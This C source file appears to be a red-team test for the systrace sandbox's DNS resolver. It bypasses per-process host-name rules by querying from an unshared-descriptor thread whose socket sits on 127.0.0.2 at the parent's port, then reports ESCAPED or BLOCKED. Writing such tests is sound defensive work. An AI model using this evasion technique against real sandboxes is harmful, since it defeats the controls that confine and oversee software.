/* dns_hidden.c: a name a table refuses, resolved at systrace's resolver from a socket that
 * looks like another table's (issue 11, red team 39; class 7, host names).
 *
 * systrace's resolver decides a query by the tables of the traced processes that hold the
 * socket it came from (red team 20, dns_relay.c), found by the socket's local port in
 * /proc/net/udp and each process's descriptors in /proc/PID/fd.  Two things fooled it:
 *   - the port alone: a socket of another address on the same port is "the socket" too
 *     (UDP sockets on 127.0.0.1:P and 127.0.0.2:P are two, and may both be bound);
 *   - /proc/PID/fd is the leader's table: a thread that unshared its descriptors
 *     (unshare(CLONE_FILES)) holds sockets no process's fd directory shows.
 * So the child (a table that refuses NAME2) sends its query from a thread's own socket on
 * 127.0.0.2:P, where P is the port of the parent's socket (another table, any name): the
 * query is decided by the parent's table alone, and answered.
 *
 *   dns_hidden parent NAME1 CHILD NAME2   looks NAME1 up on a UDP socket connected to the
 *                                         name server (under systrace: to the resolver) and
 *                                         keeps it open; runs CHILD (a copy of this program,
 *                                         another table) as "child NAME2 ADDR PORT P"
 *   dns_hidden child NAME2 ADDR PORT P    asks the name server for NAME2 (ESCAPED when it
 *                                         answers); then, from a thread with descriptors of
 *                                         its own, on a socket bound to 127.0.0.2:P, asks
 *                                         ADDR:PORT (where the parent's socket is connected)
 *                                         -- ESCAPED when that answers, else BLOCKED
 */
#include "attack.h"
#include "dns_query.h"
#include <sched.h>

/* Sends a query for name on s (connected) and reads the answer: 0 and the address in out. */
static int ask(int s, const char *name, char *out, size_t size) {
    unsigned char q[512], r[512];
    size_t n = question(q, 0x3939, 0x0100, 0, name);
    struct timeval tv = {5, 0};
    setsockopt(s, SOL_SOCKET, SO_RCVTIMEO, &tv, sizeof tv);
    ssize_t got = send(s, q, n, 0) == (ssize_t)n ? recv(s, r, sizeof r, 0) : -1;
    if (got < 12) {
        snprintf(out, size, "no answer: %s", got < 0 ? ename(errno) : "short");
        return -1;
    }
    int rcode = r[3] & 0x0f, answers = (r[6] << 8) | r[7];
    if (rcode != 0 || answers == 0) {
        snprintf(out, size, "rcode %d, %d answers", rcode, answers);
        return -1;
    }
    inet_ntop(AF_INET, r + got - 4, out, (socklen_t)size);
    return 0;
}

static struct {
    const char *name;
    struct sockaddr_in to;
    int port;
    char out[128];
    int rc;
} hidden;

static void *thread_ask(void *arg) {
    (void)arg;
    hidden.rc = -1;
    if (unshare(CLONE_FILES) != 0) {
        snprintf(hidden.out, sizeof hidden.out, "unshare(CLONE_FILES): %s", ename(errno));
        return NULL;
    }
    int s = socket(AF_INET, SOCK_DGRAM | SOCK_CLOEXEC, 0);
    struct sockaddr_in me = {.sin_family = AF_INET, .sin_port = htons((uint16_t)hidden.port)};
    inet_pton(AF_INET, "127.0.0.2", &me.sin_addr);
    if (bind(s, (struct sockaddr *)&me, sizeof me) != 0 ||
        connect(s, (struct sockaddr *)&hidden.to, sizeof hidden.to) != 0) {
        snprintf(hidden.out, sizeof hidden.out, "bind/connect: %s", ename(errno));
        close(s);
        return NULL;
    }
    hidden.rc = ask(s, hidden.name, hidden.out, sizeof hidden.out);
    close(s);
    return NULL;
}

int main(int argc, char **argv) {
    struct sockaddr_in server;
    char answer[128];
    if (nameserver(&server) < 0)
        skipped("no nameserver in /etc/resolv.conf");
    if (argc == 5 && strcmp(argv[1], "parent") == 0) {
        int s = socket(AF_INET, SOCK_DGRAM | SOCK_CLOEXEC, 0);
        if (connect(s, (struct sockaddr *)&server, sizeof server) != 0)
            blocked("the parent's connect: %s", ename(errno));
        if (ask(s, argv[2], answer, sizeof answer) != 0)
            blocked("the parent's own lookup of %s failed: %s", argv[2], answer);
        struct sockaddr_in peer, me;
        socklen_t plen = sizeof peer, mlen = sizeof me;
        getpeername(s, (struct sockaddr *)&peer, &plen);
        getsockname(s, (struct sockaddr *)&me, &mlen);
        char addr[64], port[16], mine[16];
        inet_ntop(AF_INET, &peer.sin_addr, addr, sizeof addr);
        snprintf(port, sizeof port, "%d", ntohs(peer.sin_port));
        snprintf(mine, sizeof mine, "%d", ntohs(me.sin_port));
        note("parent: %s is %s, asked through %s:%s from port %s", argv[2], answer, addr,
             port, mine);
        pid_t pid = fork();
        if (pid == 0) {
            execl(argv[3], argv[3], "child", argv[4], addr, port, mine, (char *)NULL);
            blocked("exec %s: %s", argv[3], ename(errno));
        }
        int status;
        waitpid(pid, &status, 0);
        close(s);
        return 0;
    }
    if (argc == 6 && strcmp(argv[1], "child") == 0) {
        int s = socket(AF_INET, SOCK_DGRAM | SOCK_CLOEXEC, 0);
        if (connect(s, (struct sockaddr *)&server, sizeof server) == 0 &&
            ask(s, argv[2], answer, sizeof answer) == 0)
            escaped("the name server answered %s: %s", argv[2], answer);
        close(s);
        note("child: the name server: %s", answer);
        hidden.name = argv[2];
        hidden.to.sin_family = AF_INET;
        hidden.to.sin_port = htons((uint16_t)atoi(argv[4]));
        inet_pton(AF_INET, argv[3], &hidden.to.sin_addr);
        hidden.port = atoi(argv[5]);
        pthread_t t;
        if (pthread_create(&t, NULL, thread_ask, NULL) != 0)
            blocked("pthread_create failed");
        pthread_join(t, NULL);
        if (hidden.rc == 0)
            escaped("%s:%s answered %s to a thread's socket on 127.0.0.2:%d: %s", argv[3],
                    argv[4], argv[2], hidden.port, hidden.out);
        blocked("%s not resolved from the thread's socket either: %s", argv[2], hidden.out);
    }
    usage("dns_hidden parent NAME1 CHILD NAME2 | child NAME2 ADDR PORT P");
}
